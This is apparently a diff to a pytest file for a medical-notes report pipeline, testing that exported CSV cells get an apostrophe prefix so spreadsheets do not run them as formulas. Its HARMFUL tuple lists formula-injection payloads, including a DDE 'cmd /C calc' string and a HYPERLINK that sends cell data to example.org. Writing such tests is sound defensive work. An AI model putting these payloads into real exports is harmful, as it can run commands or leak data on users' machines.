@@ -6,8 +6,6 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
-
 from medembed_pipeline.report.page import render_page
 from medembed_pipeline_tests.report.opened_page import (
     NOTES,
@@ -26,7 +24,7 @@ pytestmark = needs_chromium
 def test_the_file_holds_what_is_known_of_the_selected_notes_and_no_text(
     opened: Opener, tmp_path: Path, shown_texts: list[str]
 ) -> None:
-    payload = synthetic_payload(NOTES, SPECIALTIES)
+    payload = synthetic_payload(NOTES, SPECIALTIES, tables=False)
     payload["specialty_names"][0] = 'Heart, "lung"\nand more'
     payload["notes"]["source"][4] = "b,c.csv:9, d.csv:12"
     file = tmp_path / "named.html"
@@ -65,26 +63,27 @@ def test_the_file_holds_what_is_known_of_the_selected_notes_and_no_text(
     assert one.is_clean()
 
 
-@pytest.mark.parametrize(
-    "harmful",
-    [
-        '=HYPERLINK("http://example.org?x="&A1,"open")',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(1+1)",
-        "\t=1+1",
-        "\r=1+1",
-        "  =1+1",
-        "\uff1d1+1",
-    ],
+HARMFUL = (
+    '=HYPERLINK("http://example.org?x="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
 )
+
+
 def test_no_cell_of_the_file_is_a_formula_to_a_spreadsheet(
-    opened: Opener, tmp_path: Path, shown_texts: list[str], harmful: str
+    opened: Opener, tmp_path: Path, shown_texts: list[str]
 ) -> None:
-    payload = synthetic_payload(NOTES, SPECIALTIES)
-    payload["slices"][0]["name"] = harmful
-    payload["slices"][0]["values"][0] = harmful
-    payload["notes"]["source"] = [f"{harmful}:{row}" for row in range(NOTES)]
+    payload = synthetic_payload(NOTES, SPECIALTIES, tables=False)
+    site = payload["slices"][0]
+    payload["slices"] = [
+        {**site, "name": harmful, "values": [harmful, *site["values"][1:]]} for harmful in HARMFUL
+    ]
+    payload["notes"]["source"] = [f"{HARMFUL[row % len(HARMFUL)]}:{row}" for row in range(NOTES)]
     file = tmp_path / "harmful.html"
     file.write_bytes(render_page(payload, shown_texts))
     one = opened(file)
@@ -95,6 +94,7 @@ def test_no_cell_of_the_file_is_a_formula_to_a_spreadsheet(
         cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and cell.strip()
     ]
     # An apostrophe is all that is added.
-    assert rows[0].count(f"'{harmful}") == 1
-    assert [row[-1] for row in rows[1:]] == [f"'{harmful}:{row}" for row in range(8)]
+    assert [rows[0].count(f"'{harmful}") for harmful in HARMFUL] == [1] * len(HARMFUL)
+    assert [row[-1] for row in rows[1:]] == [f"'{harmful}:{row}" for row, harmful in enumerate(HARMFUL)]
+    assert all(any(f"'{harmful}" in row[:-1] for row in rows[1:]) for harmful in HARMFUL)
     assert one.is_clean()
